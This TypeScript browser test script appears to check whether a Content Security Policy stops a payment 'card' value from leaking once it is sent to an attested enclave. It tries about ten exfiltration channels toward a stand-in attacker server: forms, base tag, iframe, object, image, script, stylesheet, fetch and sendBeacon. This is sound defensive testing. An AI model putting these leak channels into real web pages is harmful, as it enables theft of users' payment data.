/**
 * Sends to the enclave, then tries every other way out. A way is over when the policy reports that
 * it stopped it, or when the attacker's server has it.
 */
import { attestedFetch } from '../../../src/client/index.ts'
import { skipReferenceValues, verifyNitro } from '../../../src/formats/aws/nitro/index.ts'
import { fromBase64 } from '../channel/bytes.ts'
import { card } from '../channel/world.ts'
import { type PolicyReport, type PolicySettings, type Way, ways } from './model.ts'

/** Stands before this script. */
declare const settings: PolicySettings
const { enclave, elsewhere, root, now, open } = settings

const send = attestedFetch(enclave, {
  allowLoopbackHttp: true,
  attestSeconds: 3600,
  responseSeconds: 3600,
  idleSeconds: 3600,
  verify: (evidence, { nonce }) =>
    verifyNitro(evidence, {
      referenceValues: skipReferenceValues,
      freshness: { nonce },
      trustAnchors: [fromBase64(root)],
      now: new Date(now),
    }),
})

const addressOf = (way: Way): string => `${elsewhere}/${encodeURIComponent(way)}?${card}`

function add<K extends keyof HTMLElementTagNameMap>(tag: K, properties: Partial<HTMLElementTagNameMap[K]>): void {
  document.body.append(Object.assign(document.createElement(tag), properties))
}

/**
 * Where forms lead, one each, so that this page stays. They are empty, and so nothing that a policy
 * is asked about.
 */
for (const name of ['get', 'post']) add('iframe', { name })

function submit(method: 'get' | 'post', way: Way): void {
  const form = document.createElement('form')
  form.target = method
  form.method = method
  form.action = addressOf(way)
  const input = document.createElement('input')
  input.name = 'card'
  input.value = card
  form.append(input)
  document.body.append(form)
  form.submit()
}

const attempts: Readonly<Record<Way, () => void>> = {
  form: () => {
    submit('post', 'form')
  },
  'form in the address': () => {
    submit('get', 'form in the address')
  },
  base: () => {
    document.head.append(Object.assign(document.createElement('base'), { href: `${elsewhere}/base/` }))
    // What is relative from now on: here, an address that a person may follow.
    if (document.baseURI.startsWith(elsewhere)) void tell('/followed', new URL(card, document.baseURI).href)
  },
  frame: () => {
    add('iframe', { src: addressOf('frame') })
  },
  object: () => {
    add('object', { data: addressOf('object') })
  },
  image: () => {
    add('img', { src: addressOf('image') })
  },
  script: () => {
    add('script', { src: addressOf('script') })
  },
  style: () => {
    add('link', { rel: 'stylesheet', href: addressOf('style') })
  },
  fetch: () => {
    fetch(addressOf('fetch'), { method: 'POST', mode: 'no-cors', body: card }).catch(() => undefined)
  },
  beacon: () => {
    navigator.sendBeacon(addressOf('beacon'), card)
  },
}

/** Tells the test, through the one server that the policy names. */
const tell = (path: string, body: string): Promise<Response> => fetch(`${enclave}${path}`, { method: 'POST', body })

function outcomeOf(way: Way): Promise<string> {
  return new Promise((resolve, reject) => {
    const note = ({ effectiveDirective, blockedURI }: SecurityPolicyViolationEvent): void => {
      // WebKit asks for an icon when it pleases.
      if (blockedURI.endsWith('/favicon.ico')) return
      // Chromium reports a form twice: as a form, and then as what its frame was to show.
      if (effectiveDirective === 'frame-src' && way !== 'frame') return
      removeEventListener('securitypolicyviolation', note)
      resolve(effectiveDirective)
    }
    addEventListener('securitypolicyviolation', note)
    try {
      attempts[way]()
    } catch {
      // Firefox throws where the policy stops a form, and reports it as well.
    }
    // Answered when the attacker's server has it.
    if (open.includes(way))
      tell('/arrived', way).then(() => {
        removeEventListener('securitypolicyviolation', note)
        resolve('arrived')
      }, reject)
  })
}

try {
  const answer = await (await send('/pay', { method: 'POST', body: card })).text()
  const outcomes: Partial<Record<Way, string>> = {}
  for (const way of ways) outcomes[way] = await outcomeOf(way)
  await tell(
    '/report',
    JSON.stringify({ answer, outcomes: outcomes as PolicyReport['outcomes'] } satisfies PolicyReport),
  )
} catch (error) {
  await tell('/failure', String(error))
}
